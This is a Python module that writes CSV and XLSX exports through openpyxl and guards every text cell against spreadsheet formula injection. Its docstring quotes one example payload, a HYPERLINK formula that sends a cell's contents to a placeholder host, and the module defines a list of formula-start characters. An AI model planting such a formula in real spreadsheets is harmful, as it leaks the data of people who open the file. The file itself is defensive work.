"""Tables written for people: CSV for Excel and XLSX, the one place every export goes through.

An office forwards these files up the line and opens them in Excel or WPS, so a cell whose text
begins like a formula must never become one: a school name, actor or reason such as
``=HYPERLINK("http://x/?leak="&A2,"…")`` would run on the reader's machine. Every text cell is
neutralised by OWASP's rule for CSV injection — text starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return gets a leading apostrophe — and in XLSX every text cell is also stored as
a string, never a formula. Numbers stay numbers (a negative count is not text). Full-width
variants (＝＋－＠) are folded by Excel into formulas too, so they are caught as well.

``xlsx_bytes`` streams rows through openpyxl's write-only workbook, so a 5,000-row list costs
memory for one row at a time, with a title block above a frozen header row.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from io import BytesIO
from typing import Any, TextIO

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
MAX_WIDTH = 60


def neutralise(value: Any) -> Any:
    """``value`` safe to hand to a spreadsheet: formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


@dataclass(frozen=True)
class SheetColumn:
    """One column of an exported table: its header, and how Excel should show it."""

    header: str
    width: int | None = None  # characters; None: from the header
    number_format: str | None = None  # e.g. "0.0%" for a share, "@" for a code kept as text


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    return neutralise(value)


def write_csv(stream: TextIO, columns: Sequence[SheetColumn | str], rows: Iterable[Sequence[Any]],
              title: Sequence[str] = ()) -> None:
    """CSV for Excel: BOM first, CRLF rows, optional title lines above the header, every cell safe."""
    stream.write("\ufeff")
    writer = csv.writer(stream, lineterminator="\r\n")
    for line in title:
        writer.writerow([_cell(line)])
    writer.writerow([_cell(c.header if isinstance(c, SheetColumn) else c) for c in columns])
    for row in rows:
        writer.writerow([_cell(v) for v in row])


def _width(column: SheetColumn) -> int:
    if column.width is not None:
        return column.width
    wide = sum(2 if ord(ch) > 0x2E7F else 1 for ch in column.header)  # CJK is two columns wide
    return min(MAX_WIDTH, max(10, wide + 4))


def _xlsx_cell(sheet: Worksheet, value: Any, number_format: str | None = None,
               font: Font | None = None) -> WriteOnlyCell:
    if isinstance(value, datetime) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)  # Excel has no time zones; callers pass local time
    cell = WriteOnlyCell(sheet, value=_cell(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # never a formula, whatever the text
    if number_format:
        cell.number_format = number_format
    elif isinstance(value, date | datetime):
        cell.number_format = "yyyy-mm-dd hh:mm" if isinstance(value, datetime) else "yyyy-mm-dd"
    if font is not None:
        cell.font = font
    return cell


def xlsx_bytes(sheet_title: str, columns: Sequence[SheetColumn], rows: Iterable[Sequence[Any]],
               title: Sequence[str] = (),
               more: Sequence[tuple[str, Sequence[SheetColumn], Iterable[Sequence[Any]]]] = ()) -> bytes:
    """An .xlsx of one table: title lines (bold, the first larger), the header frozen below them.
    ``more``: further sheets (title, columns, rows) after it, each with the same title lines."""
    book = Workbook(write_only=True)
    for name, cols, table in ((sheet_title, columns, rows), *more):
        _sheet(book, name, cols, table, title)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def _sheet(book: Workbook, sheet_title: str, columns: Sequence[SheetColumn], rows: Iterable[Sequence[Any]],
           title: Sequence[str]) -> None:
    sheet = book.create_sheet(sheet_title[:31] or "Sheet1")
    for index, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = _width(column)
    sheet.freeze_panes = f"A{len(title) + 2}"
    for n, line in enumerate(title):
        sheet.append([_xlsx_cell(sheet, line, font=Font(bold=True, size=14 if n == 0 else 11))])
    header_font = Font(bold=True)
    header = []
    for column in columns:
        cell = _xlsx_cell(sheet, column.header, font=header_font)
        cell.alignment = Alignment(horizontal="center", wrap_text=True)
        header.append(cell)
    sheet.append(header)
    formats = [c.number_format for c in columns]
    for row in rows:
        sheet.append([_xlsx_cell(sheet, v, formats[i] if i < len(formats) else None) for i, v in enumerate(row)])
